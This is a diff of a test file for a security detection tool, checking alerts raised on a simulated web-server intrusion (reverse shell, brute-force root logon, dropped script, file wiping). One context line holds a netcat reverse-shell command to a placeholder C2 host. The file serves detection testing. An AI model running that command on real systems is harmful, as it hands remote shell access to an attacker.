@@ -58,7 +58,7 @@ describe('examples/attack-webserver', () => {
       `nc -e /bin/sh ${C2} 4445`,
     ]);
     expect(rev.evidence.keyComponents['Exec Chains']).toEqual(['dash → nc.traditional (ProcessId 52301)']);
-    expect(rev.evidence.keyComponents['Parent Processes']).toContain('php-fpm8.1');
+    expect(rev.evidence.keyComponents.InitiatingProcessFileName).toContain('php-fpm8.1');
     const exec = a.filter((x) => x.detectorId === 'defender/exec-process-replacement');
     for (const e of exec) expect(e.severity).toBe('high');
 
@@ -66,19 +66,19 @@ describe('examples/attack-webserver', () => {
     const bf = find(a, 'defender/logon-brute-force', BRUTE)!;
     expect(bf.severity).toBe('high');
     expect(bf.evidence.keyComponents).toMatchObject({
-      'Remote IP': BRUTE,
+      RemoteIP: BRUTE,
       Failures: '36',
-      'Success Account': ['root'],
+      'Success Account': 'root',
     });
     expect(bf.mitre.map((m) => m.id)).toContain('T1078');
     const pub = find(a, 'defender/public-remote-logon', `${BRUTE} root`)!;
     expect(pub.severity).toBe('high');
-    expect(pub.evidence.keyComponents).toMatchObject({ Account: 'root', PosixUserId: '0' });
+    expect(pub.evidence.keyComponents).toMatchObject({ AccountName: 'root', PosixUserId: '0' });
 
     // 3. wiping traces and persistence: the dropped script (one alert) and the command lines
     const script = a.find((x) => x.detectorId === 'defender/suspicious-script-content')!;
     expect(script.severity).toBe('high');
-    expect(script.evidence.keyComponents['Script Path']).toBe('/dev/shm/.t.sh');
+    expect(script.evidence.keyComponents['Script Path']).toEqual(['/dev/shm/.t.sh']);
     expect(script.evidence.keyComponents.Behaviours).toEqual([
       'download and execute',
       'shell history cleared or disabled',
@@ -106,7 +106,7 @@ describe('examples/attack-webserver', () => {
     expect(wipe.severity).toBe('high');
     expect(wipe.evidence.keyComponents).toMatchObject({
       'Files Deleted': '126',
-      'Deleting Processes': ['rm'],
+      InitiatingProcessFileName: ['rm'],
       Accounts: ['root'],
     });
 
